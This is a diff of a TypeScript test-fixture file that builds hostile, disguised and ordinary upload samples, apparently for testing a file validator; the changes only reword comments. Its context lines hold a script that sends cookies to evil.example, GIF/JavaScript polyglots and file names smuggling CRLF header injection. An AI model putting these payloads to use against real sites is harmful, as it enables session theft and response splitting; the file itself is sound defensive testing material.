@@ -1,13 +1,13 @@
 import { crc32, deflateSync } from 'node:zlib';
 
-/** A file as someone hostile, careless or ordinary would send it. `type` is what we must call it, where that matters. */
+/** A hostile, malformed or normal file. `type`: the expected type, where it matters. */
 export type Sample = { what: string; name: string; bytes: Buffer; declared?: string; type?: string };
 
 const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
 const text = (content: string) => Buffer.from(content);
 const utf16le = (content: string) => Buffer.from(content, 'utf16le');
 
-/** A picture that every browser accepts. */
+/** A picture that every browser displays. */
 export const png = Buffer.concat([
   Buffer.from('89504e470d0a1a0a', 'hex'),
   chunk('IHDR', Buffer.from('00000001000000010802000000', 'hex')),
@@ -17,7 +17,7 @@ export const png = Buffer.concat([
 const gif = Buffer.from('47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b', 'hex');
 const jpeg = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.from('ffd9', 'hex')]);
 
-/** Two formats in one file, and one format in the clothes of another. */
+/** Polyglots, and formats disguised as others. */
 export const disguises: Sample[] = [
   { what: 'GIF and JavaScript', name: 'a.gif', bytes: Buffer.concat([text('GIF89a/*'), gif.subarray(8), text('*/=1;alert(1)')]) },
   { what: 'GIF with an HTML comment', name: 'b.gif', bytes: Buffer.concat([gif, text(`<html>${SCRIPT}`)]), type: 'image/gif' },
@@ -51,7 +51,7 @@ export const disguises: Sample[] = [
   },
 ];
 
-/** What a browser would run if it were let. */
+/** Content that a browser would execute. */
 export const actives: Sample[] = [
   { what: 'HTML', name: 'a.html', bytes: text(`<!doctype html><html>${SCRIPT}</html>`), type: 'text/html' },
   { what: 'HTML with a byte order mark', name: 'b.html', bytes: text(`\uFEFF${SCRIPT}`), type: 'text/html' },
@@ -120,7 +120,7 @@ export const ordinary: Sample[] = [
   { what: 'random bytes', name: 'noise.bin', bytes: Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7919) % 256)) },
 ];
 
-/** Names that would like to be more than a name. */
+/** Hostile file names. */
 export const names: Sample[] = [
   'a\r\nSet-Cookie: stolen=1\r\n\r\n<html>.png',
   'a\nX-Injected: 1.png',
